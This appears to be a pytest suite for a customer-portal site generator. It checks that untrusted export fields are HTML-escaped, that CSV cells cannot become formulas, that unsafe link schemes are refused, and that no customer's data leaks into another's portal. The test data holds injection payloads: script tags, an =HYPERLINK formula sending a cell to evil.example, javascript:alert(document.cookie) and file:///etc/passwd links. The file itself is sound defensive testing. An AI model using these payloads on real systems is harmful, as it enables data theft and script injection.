"""Export fields are untrusted: escaped in HTML, neutralised in CSV downloads."""

from __future__ import annotations

import csv
import io
import re

import pytest
from conftest import minimal_config

from generator.config import ConfigError
from generator.site.tables import neutralise

SCRIPT = "<script>alert(1)</script>"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'


def hostile_site(site):
    site.file("customers.csv", f'id,name\nC1,"Evil {SCRIPT} Ltd"\n')
    site.file(
        "orders.csv",
        "order,customer,date,sku,qty,price,po,notes\n"
        f'A-1,C1,2026-05-01,"{FORMULA.replace(chr(34), chr(34) * 2)}",1,2,"+SUM(1,2)","{SCRIPT}"\n'
        f'"A-2 {SCRIPT}",C1,2026-05-02,@cmd,1,2,-3+3,ok\n',
    )
    raw = minimal_config()
    raw["exports"]["orders"]["columns"].update(po_number="po", notes="notes")
    result = site.build(raw)
    assert result.ok, result.failure
    return site.public / "C1"


def test_html_escapes_export_fields(site):
    portal = hostile_site(site)
    pages = list(portal.glob("*.html"))
    assert len(pages) >= 4
    for page in pages:
        text = page.read_text()
        assert SCRIPT not in text, page.name
        assert "<script>" not in re.sub(
            r'<script src="\.\./_static/lists\.[0-9a-f]{10}\.js" integrity="[^"]+" defer></script>', "", text
        )
    assert "Evil &lt;script&gt;alert(1)&lt;/script&gt; Ltd" in (portal / "index.html").read_text()
    detail = next(p for p in pages if p.name.startswith("order-A-2"))
    assert "A-2 &lt;script&gt;" in detail.read_text()
    assert "&#34;" in (portal / "order-A-1.html").read_text() or "&quot;" in (portal / "order-A-1.html").read_text()


def test_csv_cells_cannot_become_formulas(site):
    portal = hostile_site(site)
    data = (portal / "orders.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.DictReader(io.StringIO(data)))
    refs = {r["Your reference"] for r in rows}
    assert refs == {"'+SUM(1,2)", "'-3+3"}
    assert {r["Order"] for r in rows} == {"A-1", f"A-2 {SCRIPT}"}
    for row in rows:
        for value in row.values():
            assert not value.startswith(("=", "+", "@")), value
    assert [r["Total"] for r in rows] == ["2.00", "2.00"]  # numbers stay numbers


def test_neutralise_leaves_ordinary_text_alone():
    assert neutralise("Widget") == "Widget"
    assert neutralise("=1+1") == "'=1+1"
    assert neutralise("@SUM(A1)") == "'@SUM(A1)"
    assert neutralise("\tx") == "'\tx"


HOSTILE_LINKS = [
    "javascript:alert(document.cookie)",
    " JaVaScRiPt:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "file:///etc/passwd",
    "vbscript:msgbox(1)",
]


def test_export_links_other_than_https_http_mailto_are_refused_by_row_and_column(site):
    site.file("customers.csv", "id,name\nC1,Alpha Works\n")
    site.file("orders.csv", "order,customer,date,sku,qty,price\nA-1,C1,2026-05-01,X,1,10\n")
    invoices = ["number,customer,date,total,pay"]
    invoices += [f'I-{i},C1,2026-05-0{i},10.00,"{link}"' for i, link in enumerate(HOSTILE_LINKS, 1)]
    invoices.append("I-9,C1,2026-05-09,10.00,https://pay.example/I-9")
    site.file("invoices.csv", "\n".join(invoices) + "\n")
    shipments = ["order,date,track"] + [f'A-1,2026-05-0{i},"{link}"' for i, link in enumerate(HOSTILE_LINKS, 1)]
    site.file("shipments.csv", "\n".join(shipments) + "\n")
    raw = minimal_config(
        invoices={
            "file": "invoices.csv",
            "columns": {"number": "number", "customer": "customer", "date": "date", "total": "total"},
        },
        shipments={"file": "shipments.csv", "columns": {"order": "order", "date": "date"}},
    )
    raw["exports"]["invoices"]["columns"]["payment_link"] = "pay"
    raw["exports"]["shipments"]["columns"]["tracking_url"] = "track"
    result = site.build(raw)
    refused = [p for p in result.problems.errors if p.kind == "bad-url"]
    assert sorted((p.file, p.row, p.column, p.entity) for p in refused) == sorted(
        [("invoices.csv", row, "pay", "invoices") for row in range(2, 8)]
        + [("shipments.csv", row, "track", "shipments") for row in range(2, 8)]
    )
    assert all(
        "is not an https:, http: or mailto: link" in p.message or "control characters" in p.message for p in refused
    )
    portal = site.public / "C1"
    assert len(list(portal.glob("invoice-I-*.html"))) == 7  # every invoice is still there, with its figures
    pages = "".join(p.read_text() for p in portal.glob("*.html"))
    links = set(re.findall(r'href="([^"]*)"', pages))
    assert "https://pay.example/I-9" in links
    assert not [
        link
        for link in links
        if re.match(r"\s*[a-z][a-z0-9+.-]*:", link, re.I) and not link.startswith(("https:", "http:", "mailto:"))
    ]
    assert "alert(" not in pages
    strict = site.build(raw, strict=True)
    assert not strict.ok  # CI publishes nothing while the export carries such links


@pytest.mark.parametrize(
    ("where", "value"),
    [
        ("nav", {"label": "Help", "url": "javascript:alert(1)"}),
        ("nav", {"label": "Help", "url": "data:text/html,x"}),
        ("payment", "javascript:pay('{invoice}')"),
        ("payment", "{invoice}"),
        ("carrier", "javascript:track('{tracking}')"),
    ],
)
def test_config_links_other_than_https_http_mailto_are_config_errors(site, where, value):
    site.file("customers.csv", "id,name\nC1,Alpha Works\n")
    site.file("orders.csv", "order,customer,date,sku,qty,price\nA-1,C1,2026-05-01,X,1,10\n")
    raw = minimal_config()
    if where == "nav":
        raw["portal"]["branding"] = {"nav_links": [value]}
    elif where == "payment":
        raw["portal"]["payment_link_template"] = value
    else:
        raw["carriers"] = {"DHL": value}
    with pytest.raises(ConfigError, match=r"https://, http:// or mailto:|https:, http: or mailto:"):
        site.load(raw)


def test_config_links_that_are_safe_are_kept(site):
    raw = minimal_config()
    raw["portal"]["branding"] = {
        "nav_links": [
            {"label": "Terms", "url": "https://example.com/terms"},
            {"label": "Write", "url": "mailto:help@example.com"},
            {"label": "About", "url": "page-about.html"},
        ]
    }
    raw["portal"]["payment_link_template"] = "https://pay.example/{invoice}"
    raw["carriers"] = {"DHL": "https://dhl.example/track?n={tracking}"}
    assert site.load(raw).carriers == {"DHL": "https://dhl.example/track?n={tracking}"}


def test_a_relative_nav_link_cannot_leave_the_site_through_a_backslash(site):
    raw = minimal_config()
    raw["portal"]["branding"] = {"nav_links": [{"label": "Help", "url": "/\\\\evil.example/"}]}
    with pytest.raises(ConfigError, match="path on the site"):
        site.load(raw)


def two_customers(site):
    """C1 and C2, with an order each (A-1 and B-1)."""
    site.file("customers.csv", "id,name\nC1,Alpha\nC2,Beta\n")
    site.file("orders.csv", "order,customer,date,sku,qty,price\nA-1,C1,2026-05-01,X,1,2\nB-1,C2,2026-05-01,X,1,3\n")


def cross_reference_config(**exports) -> dict:
    """Invoices, shipments and documents that name orders and invoices, each row with its customer."""
    return minimal_config(
        invoices={
            "file": "invoices.csv",
            "group_by": "number",
            "columns": {"number": "invoice", "customer": "customer", "date": "date", "order": "order"},
            "lines": {"columns": {"sku": "sku", "quantity": "qty", "unit_price": "price"}},
        },
        shipments={
            "file": "shipments.csv",
            "columns": {"order": "order", "customer": "customer", "date": "date", "tracking_number": "tracking"},
        },
        documents={
            "file": "documents.csv",
            "folder": "docs",
            "columns": {c: c for c in ("customer", "title", "file", "order", "invoice")},
        },
        **exports,
    )


def cross_customer_site(site):
    """C2's rows that name C1's order or invoice: a typing error in the ERP, or a hostile row."""
    two_customers(site)
    site.file(
        "invoices.csv",
        "invoice,customer,date,order,sku,qty,price\n"
        "INV-1,C1,2026-05-02,A-1,X,1,2\nSECRET-INV-2,C2,2026-05-02,A-1,X,1,777.77\n",
    )
    site.file(
        "documents.csv",
        "customer,title,file,order,invoice\n"
        "C2,Secret drawing of Beta,beta.pdf,A-1,\nC2,Secret contract of Beta,contract.pdf,,INV-1\n",
    )
    site.file("shipments.csv", "order,customer,date,tracking\nA-1,C2,2026-05-03,SECRET-TRACK-9\n")
    site.file("docs/beta.pdf", b"%PDF-1.4 beta")
    site.file("docs/contract.pdf", b"%PDF-1.4 contract")
    raw = cross_reference_config()
    result = site.build(raw)
    assert result.ok, result.failure
    return result


def test_rows_of_one_customer_naming_another_customers_documents_show_nothing_of_theirs(site):
    """An invoice, a document or a shipment of C2 that names C1's order or invoice is not shown in
    C1's portal (nor linked there): each is reported by file, row and column instead."""
    result = cross_customer_site(site)
    c1 = "\n".join(p.read_text() for p in (site.public / "C1").rglob("*.html"))
    for secret in ("SECRET-INV-2", "777", "Secret drawing", "Secret contract", "SECRET-TRACK-9"):
        assert secret not in c1, secret
    c2 = "\n".join(p.read_text() for p in (site.public / "C2").rglob("*.html"))
    assert "SECRET-INV-2" in c2 and "Secret drawing" in c2 and "Secret contract" in c2  # still theirs
    found = {(p.file, p.row, p.column, p.kind) for p in result.problems.problems}
    assert ("invoices.csv", 3, "order", "unknown-reference") in found
    assert ("documents.csv", 2, "order", "unknown-reference") in found
    assert ("documents.csv", 3, "invoice", "unknown-reference") in found
    assert ("shipments.csv", 2, "customer", "unknown-reference") in found


def pages_of(site, customer_id):
    return "\n".join(p.read_text() for p in (site.public / customer_id).rglob("*.html"))


def kinds(result):
    return {(p.file, p.row, p.column, p.kind) for p in result.problems.problems}


def documents_site(site, shared_files=None):
    two_customers(site)
    site.file(
        "documents.csv",
        "customer,title,file\nC1,Alpha contract,alpha/contract.pdf\nC2,Harmless,docs/alpha/contract.pdf\n"
        "C2,Beta manual,manual.pdf\n",
    )
    site.file("docs/alpha/contract.pdf", b"%PDF-1.4 ALPHA-SECRET-TERMS")
    site.file("docs/manual.pdf", b"%PDF-1.4 manual")
    columns = {"customer": "customer", "title": "title", "file": "file"}
    documents = {"file": "documents.csv", "folder": "docs", "columns": columns}
    if shared_files is not None:
        documents["shared_files"] = shared_files
    result = site.build(minimal_config(documents=documents))
    assert result.ok, result.failure
    return result


def test_a_file_named_for_two_customers_is_given_to_neither(site):
    """C2's row naming C1's contract (by the same path, written differently) would publish it in
    C2's portal: a file two customers' rows name is left out for both, with an error on each row."""
    result = documents_site(site)
    published = b"".join(p.read_bytes() for p in site.public.rglob("*") if p.is_file())
    assert b"ALPHA-SECRET-TERMS" not in published
    assert "Beta manual" in pages_of(site, "C2")  # a file only one customer's rows name is published
    assert {k for k in kinds(result) if k[3] == "shared-file"} == {
        ("documents.csv", 2, "file", "shared-file"),
        ("documents.csv", 3, "file", "shared-file"),
    }


def test_files_meant_for_several_customers_are_shared_when_the_export_says_so(site):
    result = documents_site(site, shared_files=True)
    assert not [k for k in kinds(result) if k[3] == "shared-file"]
    assert "Alpha contract" in pages_of(site, "C1") and "Harmless" in pages_of(site, "C2")


def test_rows_of_two_customers_never_merge_into_one_order(site):
    """Rows grouped by number (an order's lines) that name two customers would put C1's lines on
    C2's page (or C2's on C1's), whichever row comes first: the order is left out for both."""
    site.file("customers.csv", "id,name\nC1,Alpha\nC2,Beta\n")
    site.file(
        "orders.csv",
        "order,customer,date,sku,qty,price\nA-1,C2,2026-05-01,BAIT,1,1\nA-1,C1,2026-05-01,ALPHA-SECRET-SKU,1,2\n"
        "B-1,C2,2026-05-01,X,1,3\n",
    )
    raw = minimal_config()
    raw["exports"]["orders"]["on_conflict"] = "first"
    result = site.build(raw)
    assert result.ok, result.failure
    assert "ALPHA-SECRET-SKU" not in pages_of(site, "C2") and "BAIT" not in pages_of(site, "C1")
    assert "A-1" not in pages_of(site, "C2") and "B-1" in pages_of(site, "C2")
    assert ("orders.csv", 3, "customer", "header-conflict") in kinds(result)
    assert [p for p in result.problems.errors if p.kind == "header-conflict"]  # an error, not a warning


def test_a_number_two_customers_use_is_left_out_for_both(site):
    """C2's invoice with C1's number, placed first, would make C1's the duplicate: C1's payment
    (which names only the number) would then be shown on C2's invoice. Both are left out."""
    two_customers(site)
    site.file("invoices.csv", "invoice,customer,date,total\nINV-1,C2,2026-05-02,50\nINV-1,C1,2026-05-02,50\n")
    site.file("payments.csv", "invoice,date,amount,reference\nINV-1,2026-05-05,50,ALPHA-SECRET-REF\n")
    raw = minimal_config(
        invoices={
            "file": "invoices.csv",
            "columns": {"number": "invoice", "customer": "customer", "date": "date", "total": "total"},
        },
        payments={
            "file": "payments.csv",
            "columns": {"invoice": "invoice", "date": "date", "amount": "amount", "reference": "reference"},
        },
    )
    result = site.build(raw)
    assert result.ok, result.failure
    for customer_id in ("C1", "C2"):
        assert "ALPHA-SECRET-REF" not in pages_of(site, customer_id) and "INV-1" not in pages_of(site, customer_id)
    found = kinds(result)
    assert {("invoices.csv", 2, "invoice", "duplicate-id"), ("invoices.csv", 3, "invoice", "duplicate-id")} <= found
    assert ("payments.csv", 2, "invoice", "unknown-reference") in found


def test_a_group_named_like_a_customer_id_is_no_group(site):
    """Audiences name customers and groups alike: a customer put in group "C1" would see what is
    meant for customer C1 only."""
    site.file("customers.csv", "id,name,group\nC1,Alpha,\nC2,Beta,C1\n")
    site.file("orders.csv", "order,customer,date,sku,qty,price\nA-1,C1,2026-05-01,X,1,2\nB-1,C2,2026-05-01,X,1,3\n")
    content = site.root / "content"
    content.mkdir()
    (content / "alpha-terms.md").write_text("---\ntitle: Alpha terms\naudience: [C1]\n---\nALPHA-ONLY-PRICES\n")
    raw = minimal_config()
    raw["exports"]["customers"]["columns"]["group"] = "group"
    result = site.build(raw)
    assert result.ok, result.failure
    assert "ALPHA-ONLY-PRICES" in pages_of(site, "C1") and "ALPHA-ONLY-PRICES" not in pages_of(site, "C2")
    assert ("customers.csv", 3, "group", "ambiguous-group") in kinds(result)


def test_two_entities_reading_one_file_never_merge_two_customers_rows(site):
    """Orders and invoices read from one file, grouped by the same number: each entity on its
    own leaves out a number whose rows name two customers."""
    site.file("customers.csv", "id,name\nC1,Alpha\nC2,Beta\n")
    site.file(
        "sales.csv",
        "number,customer,date,sku,qty,price\nN-1,C1,2026-05-01,ALPHA-SKU,1,2\nN-1,C2,2026-05-01,BETA-SECRET-SKU,1,3\n"
        "N-2,C2,2026-05-01,X,1,3\n",
    )
    grouped = {
        "file": "sales.csv",
        "group_by": "number",
        "columns": {"number": "number", "customer": "customer", "date": "date"},
        "lines": {"columns": {"sku": "sku", "quantity": "qty", "unit_price": "price"}},
    }
    result = site.build(minimal_config(orders=grouped, invoices=grouped))
    assert result.ok, result.failure
    assert "BETA-SECRET-SKU" not in pages_of(site, "C1") and "ALPHA-SKU" not in pages_of(site, "C2")
    conflicts = [(p.entity, p.row) for p in result.problems.errors if p.kind == "header-conflict"]
    assert sorted(conflicts) == [("invoices", 3), ("orders", 3)]


def test_a_number_repeated_under_another_grouping_is_left_out_for_both(site):
    """Grouped by another field than the number, two customers' records may share a number."""
    site.file("customers.csv", "id,name\nC1,Alpha\nC2,Beta\n")
    site.file(
        "orders.csv",
        "ref,order,customer,date,sku,qty,price\nR1,A-1,C1,2026-05-01,X,1,2\nR2,A-1,C2,2026-05-01,X,1,3\n"
        "R3,B-1,C2,2026-05-01,X,1,3\n",
    )
    site.file("shipments.csv", "order,date,tracking\nA-1,2026-05-03,ALPHA-SECRET-TRACK\n")
    raw = minimal_config(
        shipments={
            "file": "shipments.csv",
            "columns": {"order": "order", "date": "date", "tracking_number": "tracking"},
        }
    )
    raw["exports"]["orders"]["group_by"] = "po_number"
    raw["exports"]["orders"]["columns"]["po_number"] = "ref"
    result = site.build(raw)
    assert result.ok, result.failure
    for customer_id in ("C1", "C2"):
        assert "ALPHA-SECRET-TRACK" not in pages_of(site, customer_id)
    assert sorted(p.row for p in result.problems.errors if p.kind == "duplicate-id") == [2, 3]


def test_a_group_named_like_a_customer_whose_row_is_bad_is_no_group_either(site):
    site.file("customers.csv", "id,name,group\nC1,Alpha,\nC9,,\nC2,Beta,C9\n")
    site.file("orders.csv", "order,customer,date,sku,qty,price\nA-1,C1,2026-05-01,X,1,2\nB-1,C2,2026-05-01,X,1,3\n")
    raw = minimal_config()
    raw["exports"]["customers"]["columns"]["group"] = "group"
    result = site.build(raw)
    assert result.ok, result.failure
    assert [p.row for p in result.problems.problems if p.kind == "ambiguous-group"] == [4]
